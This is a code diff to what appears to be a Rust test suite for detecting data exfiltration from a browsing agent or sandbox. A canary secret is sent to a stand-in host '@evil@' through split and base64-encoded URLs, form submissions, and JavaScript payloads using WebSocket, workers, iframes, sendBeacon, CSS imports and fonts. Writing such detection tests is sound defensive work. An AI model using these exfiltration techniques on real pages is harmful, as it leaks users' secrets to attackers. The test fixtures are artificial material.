@@ -53,6 +53,8 @@ fn in_pieces() -> Vec<Case> {
             "what was read leaves in pieces",
             "<p>Your code is @canary@</p><form action=@evil@/search><input name=q aria-label=Field><button>Search</button></form>",
         )
+        // What the receiving site shows itself would be no secret to it.
+        .page("/take", "<p>Thanks")
         .start("@mail@/")
         .moves([look()])
         .moves(moves)
@@ -64,10 +66,12 @@ fn in_pieces() -> Vec<Case> {
     let base64 = |piece: &str| base64::Engine::encode(&base64::engine::general_purpose::STANDARD, piece);
     let by_form = |piece: String| [open("@mail@/"), fill("Field", &piece), click("Search")];
     let mut cases = vec![
-        split("", opened(&|(_, piece)| format!("@evil@/?p={piece}"))),
-        split("-numbered", opened(&|(at, piece)| format!("@evil@/?i={at}&p={piece}"))),
+        split("", opened(&|(_, piece)| format!("@evil@/take?p={piece}"))),
+        split("-numbered", opened(&|(at, piece)| format!("@evil@/take?i={at}&p={piece}"))),
         split("-path", opened(&|(_, piece)| format!("@evil@/{piece}"))),
-        split("-base64", opened(&|(_, piece)| format!("@evil@/?p={}", base64(&piece)))),
+        split("-base64", opened(&|(_, piece)| format!("@evil@/take?p={}", base64(&piece)))),
+        // The look after the first page names what is gone, which is the text of the page before.
+        split("-after-a-page", vec![open("@evil@/take"), open(&format!("@evil@/take?q={CANARY}"))]),
         split("-form", pieces().flat_map(by_form).collect()),
     ];
     cases.push(
@@ -146,6 +150,9 @@ fn scripts() -> Vec<Case> {
         typed("frame", "document.body.insertAdjacentHTML('beforeend','<iframe src=@evil@/?'+v+'></iframe>')"),
         typed("navigation", "location='@evil@/?'+v"),
         typed("event-source", "new EventSource('@evil@/?'+v)"),
+        typed("socket", "new WebSocket('ws://@evil-host@/ws?'+v).onerror=()=>{}"),
+        typed("socket-path", "new WebSocket('ws://@evil-host@/ws/'+f.value.split('').reverse().join(''))"),
+        typed("worker-socket", "new Worker(URL.createObjectURL(new Blob(['new WebSocket(\"ws://@evil-host@/ws?'+v+'\")'])))"),
         typed("beacon", "navigator.sendBeacon('@evil@/b',f.value)"),
         typed("css-import", "document.head.insertAdjacentHTML('beforeend','<style>@import \"@evil@/?'+v+'\"</style>')"),
         typed("font", "new FontFace('x','url(@evil@/?'+v+')').load().catch(()=>{})"),
